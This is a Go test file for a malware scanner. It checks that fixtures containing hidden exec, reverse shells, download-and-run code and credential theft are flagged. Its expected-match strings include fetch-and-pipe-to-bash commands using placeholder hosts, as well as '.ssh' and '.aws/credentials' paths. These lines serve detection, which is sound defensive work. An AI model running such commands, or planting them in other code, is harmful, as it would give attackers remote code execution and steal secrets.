package golang

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/analyze"
	"github.com/vigilsec/vigil/report"
)

func has(fs []report.Finding, rule string, lvl report.Level) bool {
	for _, f := range fs {
		if f.Rule == rule && f.Level == lvl {
			return true
		}
	}
	return false
}

// TestFixtures checks that every fail_* fixture reaches high with the rules
// listed, and that the clean ones stay at the level of their row.
func TestFixtures(t *testing.T) {
	for _, tc := range []struct {
		file  string
		level report.Level
		rule  string // a rule that must fire at level
		match string // text that must appear in that finding's Match
	}{
		{"fail_init_bytes.go", report.High, RuleHiddenExec, "wget -O - https://updates.example/x | /bin/bash &"},
		{"fail_init_bytes.go", report.High, RuleInit, ""},
		{"fail_init_bytes.go", report.High, RuleShellCommand, ""},
		{"fail_fragments.go", report.High, RuleHiddenString, ""},
		{"fail_fragments.go", report.High, RuleHiddenExec, "203.0.113.7"},
		{"fail_shuffled.go", report.High, RuleHiddenExec, "https://cdn.example/x"},
		{"fail_base64.go", report.High, RuleHiddenExec, "https://203.0.113.9/i.sh"},
		{"fail_download.go", report.High, RuleDownloadExec, ""},
		{"fail_steal.go", report.High, RuleEnvExfil, "os.Environ()"},
		{"fail_steal.go", report.High, RuleCredential, ".ssh"},
		{"fail_steal.go", report.High, RuleCredential, ".aws/credentials"},
		{"fail_syscall_var.go", report.High, RuleHiddenString, ""},
		{"fail_syscall_var.go", report.High, RuleInit, ""},
		{"fail_garbled.go", report.High, RuleShellCommand, ""},
		{"fail_syscall_var.go", report.High, RuleInit, "syscall.Exec(…)"},
		{"fail_typosquat.go", report.High, RuleHiddenExec, "wget -O - https://mil.example/x | /bin/bash &"},
		{"fail_typosquat.go", report.High, RuleInit, "exec.Command(…)"},
		{"fail_typosquat.go", report.High, RuleShellCommand, "wget"},
		{"fail_hex_dial.go", report.High, RuleHiddenNetwork, "203.0.113.50:4443"},
		{"fail_hex_dial.go", report.High, RuleInit, "net.Dial(…)"},
		{"fail_hex_dial.go", report.Medium, RuleRawIP, "203.0.113.50:4443"},
		{"fail_revshell.go", report.High, RuleReverseShell, "net.Dial+shell"},
		{"fail_fetch_sh.go", report.High, RuleDownloadExec, "download+shell"},
		{"clean_init.go", report.Low, RuleExec, "exec.Command(…)"},
		{"clean_tool.go", report.Low, RuleExec, `exec.Command("git")`},
		{"fail_syscall_var.go", report.High, RuleInit, "syscall.Exec(…)"},
		{"fail_typosquat.go", report.High, RuleHiddenExec, "wget -O - https://mil.example/x | /bin/bash &"},
		{"fail_typosquat.go", report.High, RuleInit, "exec.Command(…)"},
		{"fail_typosquat.go", report.High, RuleShellCommand, "wget"},
		{"fail_hex_dial.go", report.High, RuleHiddenNetwork, "203.0.113.50:4443"},
		{"fail_hex_dial.go", report.High, RuleInit, "net.Dial(…)"},
		{"fail_hex_dial.go", report.Medium, RuleRawIP, "203.0.113.50:4443"},
		{"fail_revshell.go", report.High, RuleReverseShell, "net.Dial+shell"},
		{"fail_fetch_sh.go", report.High, RuleDownloadExec, "download+shell"},
		{"clean_init.go", report.Low, RuleExec, "exec.Command(…)"},
		{"clean_tool.go", report.Low, RuleNetwork, "https://proxy.golang.org/example.com/mod/@latest"},
		{"clean_exec_test.go", report.Medium, RuleShellExec, `exec.Command("/bin/sh", …)`},
	} {
		b, err := os.ReadFile(filepath.Join("testdata", tc.file))
		if err != nil {
			t.Fatal(err)
		}
		fs := analyzeBytes("m@v1.0.0!/"+tc.file, b)
		want := report.High
		if strings.HasPrefix(tc.file, "clean_") {
			want = tc.level
		}
		if got := maxLevel(fs); got != want {
			t.Errorf("%s: level %v, want %v: %+v", tc.file, got, want, fs)
		}
		found := false
		for _, f := range fs {
			if f.Rule == tc.rule && f.Level == tc.level && strings.Contains(f.Match, tc.match) {
				found = true
				if f.Line == 0 || f.Offset <= 0 || f.Match == "" {
					t.Errorf("%s: %s without evidence: %+v", tc.file, f.Rule, f)
				}
			}
		}
		if !found {
			t.Errorf("%s: no %s/%v matching %q in %+v", tc.file, tc.rule, tc.level, tc.match, fs)
		}
	}
}

// TestNotGo checks that other files are left alone, whatever they hold.
func TestNotGo(t *testing.T) {
	b, _ := os.ReadFile("testdata/fail_init_bytes.go")
	if fs := analyzeBytes("x.txt", b); fs != nil {
		t.Errorf("analyzed a .txt file: %v", fs)
	}
	if fs := (Analyzer{}).Analyze(&analyze.File{Path: "a.go", Data: b, Kind: analyze.Binary}); fs != nil {
		t.Errorf("analyzed a binary: %v", fs)
	}
}

// TestDeterministic runs every fixture twice and compares.
func TestDeterministic(t *testing.T) {
	names, _ := filepath.Glob("testdata/*.go")
	for _, n := range names {
		b, _ := os.ReadFile(n)
		a, c := analyzeBytes(n, b), analyzeBytes(n, b)
		if len(a) != len(c) {
			t.Fatalf("%s: %d then %d findings", n, len(a), len(c))
		}
		for i := range a {
			if a[i] != c[i] {
				t.Errorf("%s: %+v then %+v", n, a[i], c[i])
			}
		}
	}
}

// TestNotBuilt checks which paths are judged leniently.
func TestNotBuilt(t *testing.T) {
	for p, want := range map[string]bool{
		"m.zip!/m@v1/a_test.go":         true,
		"m.zip!/m@v1/testdata/src/a.go": true,
		"m.zip!/m@v1/cmd/main.go":       false,
		"m.zip!/m@v1/testdatax/a.go":    false,
		"testdata/x.go":                 true,
		"m.zip!/m@v1/internal/test.go":  false,
	} {
		if got := notBuilt(p); got != want {
			t.Errorf("notBuilt(%q) = %v", p, got)
		}
	}
	// The same implant is high in a built file and stays high in a test
	// file, because its text is hidden.
	b, _ := os.ReadFile("testdata/fail_init_bytes.go")
	if l := maxLevel(analyzeBytes("m.zip!/m@v1/x_test.go", b)); l != report.High {
		t.Errorf("hidden command in a test file: %v", l)
	}
	b, _ = os.ReadFile("testdata/fail_download.go")
	if l := maxLevel(analyzeBytes("m.zip!/m@v1/x_test.go", b)); l != report.Medium {
		t.Errorf("plain download-exec in a test file: %v, want medium", l)
	}
}
